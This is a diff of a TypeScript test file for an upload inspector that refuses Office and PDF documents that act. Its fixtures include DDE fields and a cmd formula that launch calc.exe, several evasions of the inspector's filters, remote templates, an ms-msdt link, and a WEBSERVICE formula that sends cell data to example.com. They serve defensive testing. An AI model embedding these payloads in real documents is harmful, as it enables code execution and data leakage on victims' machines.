@@ -6,8 +6,12 @@ import { afterAll, describe, expect, it } from 'vitest';
 import { Refusal } from '#platform/errors';
 import { harmed, harms } from '#given/people/imports/harm';
 import {
+  chartOf,
   compound,
+  cutLetter,
   docx,
+  fateOf,
+  field,
   linked,
   lockedPdf,
   madePdf,
@@ -18,27 +22,12 @@ import {
   replacedPdf,
   xlsx,
 } from './documents.testing.ts';
-import { inspectFile } from './inspect.ts';
 import { apartLimits, endThread, takeApart } from './take-apart.ts';
 
 afterAll(endThread);
 
-/** What becomes of a file: kept as it is, or the code of the refusal. */
-async function fateOf(name: string, content: Buffer): Promise<string> {
-  try {
-    const kept = await inspectFile('somebody', content, name);
-    return kept.content.equals(content) ? 'kept' : 'changed';
-  } catch (error) {
-    if (error instanceof Refusal) return error.code;
-    throw error;
-  }
-}
-
 const script = '<</S/JavaScript/JS(app.alert\\(1\\))>>';
 const web = '<</S/URI/URI(https://example.com/)>>';
-const field = (...pieces: string[]) =>
-  `<w:fldChar w:fldCharType="begin"/>${pieces.map((each) => `<w:r><w:instrText>${each}</w:instrText></w:r>`).join('')}<w:fldChar w:fldCharType="end"/>`;
-
 /** Whether a viewer of PDF finds a script that runs when the document opens. */
 async function hasScript(content: Buffer): Promise<boolean> {
   const document = await getDocumentProxy(Uint8Array.from(content), { verbosity: 0 }).catch(() => null);
@@ -90,6 +79,9 @@ describe('a document that acts', () => {
     ['a form with scripts of its own', madePdf({ catalogue: '/AcroForm<</Fields[]/XFA(<xdp/>)>>' })],
     ['another file in it', madePdf({ catalogue: '/Names<</EmbeddedFiles<</Names[(a.exe)4 0 R]>>>>' })],
     ['another document behind a link', linked('<</S/GoToR/F(a.pdf)>>')],
+    ['a page of another document behind a link', linked('<</S/Thread/F(a.pdf)/D 0>>')],
+    ['a file of the machine behind a link', linked('<</S/URI/URI(file://host/a.exe)>>')],
+    ['content from the web', plainPdf('/F<</FS/URL/F(http://a.example/)>>')],
     ['a film', linked('<</S/Rendition/OP 0>>')],
     ['objects under a lock', madePdf({ trailer: '/Encrypt<</Filter/Standard/V 1/R 2>>' })],
     ['objects packed twice', madePdf({ stream: '/X/ASCII85Decode' })],
@@ -114,138 +106,6 @@ describe('a document that acts', () => {
     const content = opening(script, {}, { hidden });
 
     expect([await hasScript(content), await fateOf('a.pdf', content)]).toEqual([true, 'FILE_UNSAFE']);
-  });
-
-  it.each([
-    [
-      'a template from elsewhere',
-      docx(related('attachedTemplate', 'https://example.com/a.dotm', 'TargetMode="External"')),
-    ],
-    ['a template, written with entities', docx(related('attachedTemplate', 'a.dotm', "TargetMode = '&#69;xternal'"))],
-    [
-      'a template, written with numbers that begin with noughts',
-      docx(
-        related(
-          'attached&#x0000000054;emplate',
-          '&#0000000104;ttp://example.com/a.dotm',
-          'TargetMode="&#x0000045;xternal"',
-        ),
-      ),
-    ],
-    ['a field that starts a program, with such a number', docx('', field('&#x0000000044;DEAUTO c:\\\\calc.exe'))],
-    ['a field that starts a program, as bare text', docx('', field('<![CDATA[ DDEAUTO c:\\\\calc.exe]]>'))],
-    ['a field that fetches a picture, cut by a remark', docx('', field('INCLUDE<!-- -->PICTURE "http://a.example"'))],
-    ['a field that fetches a picture, cut by a note', docx('', field('INCLUDE<?x y?>PICTURE "http://a.example"'))],
-    [
-      'a field whose begin is written with a number',
-      docx(
-        '',
-        `${field(' PAGE ')}${field(' DDE a ')}`.replaceAll('"begin"', '"&#98;egin"').replaceAll('"end"', '"&#101;nd"'),
-      ),
-    ],
-    [
-      'a field that starts a program, behind a bracket in quotes',
-      docx('', field('').replace('<w:instrText>', '<w:instrText x=">">DDEAUTO c')),
-    ],
-    [
-      'a field that starts a program, under another prefix',
-      docx('', field('DDEAUTO c').replaceAll('w:instrText', 'w-x:instrText')),
-    ],
-    [
-      'a field that starts a program, in a part that is called relations',
-      docx('', '', [{ name: 'word/main.rels', content: `<w:hdr>${field('DDEAUTO c')}</w:hdr>` }]),
-    ],
-    [
-      'a field that starts a program, behind many blanks',
-      docx('', '', [{ name: 'word/media/b.png', content: `${' '.repeat(90)}<w:hdr>${field('DDEAUTO c')}</w:hdr>` }]),
-    ],
-    [
-      'a picture from elsewhere, said twice',
-      docx(related('image', 'https://example.com/a.png', 'TargetMode="External" target="a.png" targetmode="Internal"')),
-    ],
-    [
-      'addresses merged into it from elsewhere',
-      docx('', '', [{ name: 'word/settings.xml', content: '<w:mailMerge/>' }]),
-    ],
-    ['a picture from elsewhere', docx(related('image', 'https://example.com/a.png', 'TargetMode="External"'))],
-    ['a picture on a shared folder', docx(related('image', '\\\\host\\a.png'))],
-    ['an object from elsewhere', docx(related('oleObject', 'file:///c:/a.bin', 'TargetMode="External"'))],
-    [
-      'another file in it',
-      docx(related('package', 'embeddings/a.docx'), '', [{ name: 'word/embeddings/a.docx', content: 'x' }]),
-    ],
-    ['a page of the web as its text', docx(related('aFChunk', 'a.mht'))],
-    ['a frame', docx(related('frame', 'https://example.com/', 'TargetMode="External"'))],
-    ['a link that opens a program', docx(related('hyperlink', 'ms-msdt:/id', 'TargetMode="External"'))],
-    ['a relation that only other readers understand', docx('<Relationship Type=frame Target="a"/>')],
-    [
-      'relations in other letters',
-      docx('', '', [{ name: 'word/_rels/a.xml.rels', content: Buffer.from('<a/>', 'utf16le') }]),
-    ],
-    [
-      'relations in an encoding that hides them',
-      docx('', '', [{ name: 'word/_rels/a.xml.rels', content: '<?xml version="1.0" encoding="utf-7"?><a/>' }]),
-    ],
-    ['a field that starts a program, in pieces', docx('', field('DD', 'EAUTO c:\\\\calc.exe'))],
-    [
-      'a field that starts a program, in a part that is called a picture',
-      docx('', '', [{ name: 'word/media/a.png', content: `<w:hdr>${field('DDE', ' c:\\\\calc.exe')}</w:hdr>` }]),
-    ],
-    [
-      'a part that is called a picture and is written so that others read it',
-      docx('', '', [{ name: 'word/media/a.png', content: Buffer.from('\ufeff<w:hdr/>', 'utf16le') }]),
-    ],
-    ['a field that starts a program, in one', docx('', '<w:fldSimple w:instr=" DDE c:\\\\calc.exe a "/>')],
-  ])('is refused: a letter with %s [T19 ASVS-5.2.2 ASVS-5.3.3]', async (_, content) => {
-    expect(await fateOf('a.docx', content)).toBe('FILE_UNSAFE');
-  });
-
-  it.each([
-    [
-      'cells of another file',
-      'a.xlsx',
-      xlsx(related('externalLinkPath', 'https://example.com/a.xlsx', 'TargetMode="External"')),
-    ],
-    ...['WEBSERVICE("http://example.com/?"&amp;A2)', 'IMAGE("http://a.example")', 'RTD("a",,"b")'].map(
-      (formula): [string, string, Buffer] => [
-        'a formula that fetches',
-        'a.xlsx',
-        xlsx('', `<c r="A1"><f>_xlfn.${formula}</f></c>`),
-      ],
-    ),
-    [
-      'a formula between names of sheets with quotes',
-      'a.xlsx',
-      xlsx('', `<c r="A1"><f>'a"'!A1&amp;WEBSERVICE("http://a.example/")&amp;'b"'!A1</f></c>`),
-    ],
-    ['a command to another program', 'a.xlsx', xlsx('', `<c r="A1"><f>cmd|'/c calc'!A0</f></c>`)],
-    ['sheets of 1995', 'a.xls', compound({ '/Book': Buffer.alloc(9) })],
-    ['a query', 'a.xlsx', xlsx(related('queryTable', '../queryTables/a.xml'))],
-    ['macros of before Visual Basic', 'a.xls', compound({ '/Workbook': record(0x85, [0, 0, 0, 0, 0, 1, 1, 0, 65]) })],
-    ['cells of another program', 'a.xls', compound({ '/Workbook': record(0x1ae, [1, 0, 5, 0, 0, 99, 109, 100]) })],
-    ['macros', 'a.xls', compound({ '/Workbook': Buffer.alloc(9), '/_VBA_PROJECT_CUR/VBA/dir': Buffer.alloc(9) })],
-    [
-      'another file in it',
-      'a.doc',
-      compound({ '/WordDocument': Buffer.alloc(9), '/ObjectPool/_1/a': Buffer.alloc(9) }),
-    ],
-    [
-      'a field that starts a program',
-      'a.doc',
-      compound({ '/WordDocument': Buffer.from('\u0013 DDEAUTO c:\\calc.exe \u0014') }),
-    ],
-    [
-      'a template from the web, whatever it is called',
-      'a.doc',
-      compound({ '/WordDocument': Buffer.alloc(9), '/1Table': Buffer.from('http://a.example/t.php?a=1\0', 'utf16le') }),
-    ],
-    [
-      'a template from elsewhere',
-      'a.doc',
-      compound({ '/WordDocument': Buffer.alloc(9), '/1Table': Buffer.from('\\\\host\\a.dot\0', 'utf16le') }),
-    ],
-  ])('is refused: a file with %s [T19 ASVS-5.2.2 ASVS-5.3.3]', async (...[, name, content]) => {
-    expect(await fateOf(name, content)).toBe('FILE_UNSAFE');
   });
 
   it('is refused when its objects outgrow their room [T20 ASVS-5.2.3]', async () => {
@@ -306,6 +166,7 @@ describe('a document that nobody opens without its password', () => {
     ['a PDF', 'a.pdf', lockedPdf('secret')],
     ['a letter', 'a.docx', compound({ '/EncryptedPackage': Buffer.alloc(5000), '/EncryptionInfo': Buffer.alloc(200) })],
     ['a workbook', 'a.xlsx', compound({ '/EncryptedPackage': Buffer.alloc(5000) })],
+    ['a workbook of before 2007', 'a.xls', compound({ '/Workbook': record(0x2f, [1, 0, 1, 0, 1, 0]) })],
   ])('is refused, and told so: %s [T19 Q2]', async (...[, name, content]) => {
     expect(await fateOf(name, content)).toBe('FILE_PASSWORD');
   });
@@ -348,6 +209,36 @@ describe('a document that does not act', () => {
         field(' PAGE '),
       ),
     ],
+    ['a letter with a link to a port', 'a.docx', docx(related('hyperlink', 'www.a.cn:80/x', 'TargetMode="External"'))],
+    [
+      'a letter with a chart',
+      'a.docx',
+      docx('', '', [
+        ...chartOf('../embeddings/a.xlsx'),
+        { name: 'word/embeddings/a.xlsx', content: xlsx('', '<c r="A1"><f>SUM(A2:A9)</f></c>') },
+      ]),
+    ],
+    [
+      'a letter with parts in other encodings, and an empty one',
+      'a.docx',
+      docx('', '', [
+        {
+          name: 'customXml/a.xml',
+          content: Buffer.from('\ufeff<?xml version="1.0" encoding="utf-16"?><a/>', 'utf16le'),
+        },
+        { name: 'customXml/b.xml', content: '<?xml version="1.0" encoding="GB2312"?><a/>' },
+        { name: 'customXml/c.xml', content: '' },
+      ]),
+    ],
+    ['a letter of before 2007 in pieces', 'a.doc', cutLetter('\u0013 PA', 'GE \u0014')],
+    [
+      'a picture with a palette behind an outline',
+      'a.pdf',
+      plainPdf(
+        '/Outlines 2 0 R>>\nendobj\n2 0 obj\n<</First 3 0 R/Last 3 0 R/Count 1>>\nendobj\n4 0 obj\n<</Subtype/Image/ColorSpace[/Indexed/DeviceRGB 1(\\(\\)%<>\\\\)]/Filter/FlateDecode/DecodeParms<</Predictor 15/Columns 1>>/Length 2>>\nstream\nxx\nendstream\nendobj\n5 0 obj\n<<',
+      ),
+    ],
+    ['a sheet that is named like a function', 'a.xlsx', xlsx('', '<c r="A1"><f>SUM(WebService!A1)</f></c>')],
     ['a sheet that is the copy of another', 'a.xlsx', xlsx('', `<c r="A1"><f>'Image (2)'!A1+T[Call (min)]</f></c>`)],
     ['a sheet with sums', 'a.xlsx', xlsx('', '<c r="A1"><f>IF(SUM(A2,IMAGES!A1)=1,"IMAGE (front)",0)</f></c>')],
     ['a sheet', 'a.xlsx', xlsx(related('hyperlink', 'mailto:a@example.com', 'TargetMode="External"'))],
@@ -365,7 +256,13 @@ describe('a document that does not act', () => {
     [
       'a drawing',
       'a.docx',
-      docx('', '', [{ name: 'word/media/a.svg', content: '<svg xmlns="http://www.w3.org/2000/svg"/>' }]),
+      docx('', '', [
+        {
+          name: 'word/media/a.svg',
+          content:
+            '<?xml version="1.0"?>\n<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">\n<svg xmlns="http://www.w3.org/2000/svg"/>',
+        },
+      ]),
     ],
   ])('is kept as it is: %s [T19]', async (...[, name, content]) => {
     expect(await fateOf(name, content)).toBe('kept');
